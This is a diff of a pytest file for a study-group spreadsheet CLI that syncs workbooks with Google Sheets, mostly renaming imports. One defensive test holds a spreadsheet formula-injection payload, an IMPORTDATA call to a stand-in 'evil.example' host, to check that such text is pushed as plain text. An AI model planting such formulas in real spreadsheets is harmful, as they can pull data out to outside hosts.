@@ -7,11 +7,15 @@ from pathlib import Path
 import pytest
 from typer.testing import CliRunner, Result
 
-from studylib import board, cli, clock, sample, stores, tables, template, workbook
-from studylib.cells import Tab, Workbook
-from studylib.stores import google, xlsx
+from studylib import cli, clock, stores
+from studylib.config import studies
+from studylib.season import board
+from studylib.stores.google import key, session
+from studylib.stores.xlsx import write
+from studylib.workbook import layouts, reader, sample, template
+from studylib.workbook.cells import Tab, Workbook
 from tests import seasons
-from tests.googlesheets import Google
+from tests.googlesheets.server import Google
 from tests.reference import SEOUL
 
 NOW = datetime(2022, 5, 11, 0, 30, tzinfo=SEOUL)
@@ -26,12 +30,12 @@ def google_(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Google]
     monkeypatch.setenv("HOME", str(tmp_path))
     monkeypatch.setenv("LANG", "en_US.UTF-8")
     monkeypatch.delenv("LC_ALL", raising=False)
-    monkeypatch.delenv(stores.VARIABLE, raising=False)
-    monkeypatch.delenv(google.KEY_FILE, raising=False)
+    monkeypatch.delenv(studies.VARIABLE, raising=False)
+    monkeypatch.delenv(key.KEY_FILE, raising=False)
     (tmp_path / ".streamlit").mkdir()
     (tmp_path / ".streamlit" / "secrets.toml").write_text("[sheet]\nwrite = true\n")
     with Google(Workbook((Tab("시트1", ()),)), open=True, zone="America/New_York", locale="en_US") as started:
-        monkeypatch.setenv(google.ELSEWHERE, started.url)
+        monkeypatch.setenv(session.ELSEWHERE, started.url)
         yield started
 
 
@@ -98,13 +102,13 @@ def test_init_fills_nothing_that_is_there_and_leaves_the_zone_of_times_alone(goo
 @pytest.mark.parametrize("prepared", [False, True])
 def test_push_copies_the_whole_season_and_the_board_is_the_same(google_: Google, prepared: bool) -> None:
     cells = sample.workbook(NOW)
-    xlsx.write(cells, "season.xlsx")
+    write.write(cells, "season.xlsx")
     if prepared:
         run("sheet", "init", google_.address)
     result = run("--workbook", "season.xlsx", "sheet", "push", google_.address)
     assert result.exit_code == 0, result.output
-    study, problems = workbook.read(cells)
-    again, found = workbook.read(read_back(google_))
+    study, problems = reader.read(cells)
+    again, found = reader.read(read_back(google_))
     assert seasons.cells(board.judge(again, NOW)) == seasons.cells(board.judge(study, NOW))
     assert [each.message for each in found] == [each.message for each in problems]
     assert google_.spreadsheet.zone == "Asia/Seoul"
@@ -112,7 +116,7 @@ def test_push_copies_the_whole_season_and_the_board_is_the_same(google_: Google,
 
 
 def test_a_second_push_changes_nothing(google_: Google) -> None:
-    xlsx.write(sample.workbook(NOW), "season.xlsx")
+    write.write(sample.workbook(NOW), "season.xlsx")
     run("--workbook", "season.xlsx", "sheet", "push", google_.address)
     before, mark = read_back(google_), google_.mark()
     result = run("--workbook", "season.xlsx", "sheet", "push", google_.address)
@@ -123,7 +127,7 @@ def test_a_second_push_changes_nothing(google_: Google) -> None:
 
 def test_push_never_touches_the_forms_own_tab(google_: Google) -> None:
     google_.spreadsheet.fill(Workbook((FORM,)))
-    xlsx.write(sample.workbook(NOW), "season.xlsx")
+    write.write(sample.workbook(NOW), "season.xlsx")
     run("--workbook", "season.xlsx", "sheet", "push", google_.address)
     assert google_.spreadsheet.tab(FORM.title).rows == [list(FORM.rows[0])]
     assert not any(FORM.title in str(each.body) for each in google_.requests if each.kind == "write")
@@ -131,7 +135,7 @@ def test_push_never_touches_the_forms_own_tab(google_: Google) -> None:
 
 def test_texts_that_look_like_formulas_are_pushed_as_texts(google_: Google) -> None:
     evil = '=IMPORTDATA("http://evil.example/")'
-    xlsx.write(seasons.book(members=seasons.tab("members", ("name",), (evil,), ("007",))), "season.xlsx")
+    write.write(seasons.book(members=seasons.tab("members", ("name",), (evil,), ("007",))), "season.xlsx")
     run("--workbook", "season.xlsx", "sheet", "push", google_.address)
     assert google_.spreadsheet.tab("members").rows[1:] == [[evil], ["007"]]
 
@@ -155,7 +159,7 @@ def test_another_address_than_a_google_sheets_is_refused(google_: Google, comman
 
 
 def test_a_push_that_breaks_off_is_finished_by_the_next_one(google_: Google) -> None:
-    xlsx.write(sample.workbook(NOW), "season.xlsx")
+    write.write(sample.workbook(NOW), "season.xlsx")
     google_.on_request = lambda request: (
         google_.fault("503", times=1) if "values:batchUpdate" in request.path else None
     )
@@ -179,14 +183,14 @@ def test_the_form_script_names_the_sheet_it_is_for(google_: Google) -> None:
 
 
 def test_the_form_script_of_another_workbook_is_for_the_sheet_in_which_it_is_pasted(google_: Google) -> None:
-    xlsx.write(seasons.book(), "season.xlsx")
+    write.write(seasons.book(), "season.xlsx")
     result = run("--workbook", "season.xlsx", "sheet", "form-script", "--collect-addresses")
     assert '"sheet": null' in result.stdout
     assert '"addresses": true' in result.stdout
 
 
 def test_a_form_without_members_is_refused_in_words(google_: Google) -> None:
-    xlsx.write(seasons.book(members=seasons.tab("members", "name")), "season.xlsx")
+    write.write(seasons.book(members=seasons.tab("members", "name")), "season.xlsx")
     result = run("--workbook", "season.xlsx", "sheet", "form-script")
     assert result.exit_code == 2
     assert "no members yet" in result.stderr
@@ -205,12 +209,12 @@ def test_a_sheet_of_another_zone_is_exported_and_imported_without_moving_a_time(
             )
         )
     )
-    study, _ = workbook.read(read_back(google_))
+    study, _ = reader.read(read_back(google_))
     assert study.submissions["submitted_at"].iloc[0].isoformat() == "2022-04-12T23:59:00+09:00"
     assert run("--workbook", google_.address, "export", "copy.xlsx").exit_code == 0
     assert run("--workbook", "sqlite:///copy.db", "import", google_.address).exit_code == 0
     for address in ("copy.xlsx", "sqlite:///copy.db"):
-        again, _ = workbook.read(stores.open_store(address).fetch())
+        again, _ = reader.read(stores.open_store(address).fetch())
         assert again.submissions.equals(study.submissions)
 
 
@@ -218,14 +222,14 @@ def test_a_month_is_closed_in_a_sheet_that_may_be_written(
     google_: Google, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr(clock, "now", lambda: NOW)
-    title, header = tables.headed(tables.SETTLEMENTS, "ko")
+    title, header = layouts.headed(layouts.SETTLEMENTS, "ko")
     google_.spreadsheet.fill(seasons.book(settlements=Tab(title, (header,))))
     result = run("--workbook", google_.address, "close", "2022-04")
     assert result.exit_code == 0, result.output
-    study, problems = workbook.read(read_back(google_))
+    study, problems = reader.read(read_back(google_))
     assert problems == []
     assert {(row.month, row.member) for row in study.settlements} == {
         ("2022-04", name) for name in ("가람", "나래", "다온")
     }
     assert run("--workbook", google_.address, "close", "2022-04").exit_code == 1
-    assert workbook.read(read_back(google_))[0].settlements == study.settlements
+    assert reader.read(read_back(google_))[0].settlements == study.settlements
